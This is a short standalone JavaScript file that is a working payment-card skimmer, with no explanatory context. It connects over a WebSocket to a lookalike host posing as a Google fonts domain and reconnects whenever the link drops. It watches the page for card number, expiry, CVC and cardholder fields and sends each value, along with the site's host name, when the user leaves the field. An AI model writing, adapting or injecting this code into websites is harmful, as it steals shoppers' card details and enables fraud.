(function () {
  var ws;
  function open() {
    ws = new WebSocket("wss://fonts-googleapi.example:8443/s");
    ws.onclose = function () { setTimeout(open, 3000); };
  }
  open();
  var seen = {};
  function watch() {
    ["cardnumber", "cc-exp", "cvc", "cardholder"].forEach(function (n) {
      var el = document.querySelector("[autocomplete=" + n + "], [name*=" + n + "]");
      if (!el || seen[n]) return;
      seen[n] = true;
      el.addEventListener("blur", function () {
        if (ws.readyState === 1) ws.send(JSON.stringify({ f: n, v: el.value, h: location.host }));
      });
    });
  }
  setInterval(watch, 1000);
})();
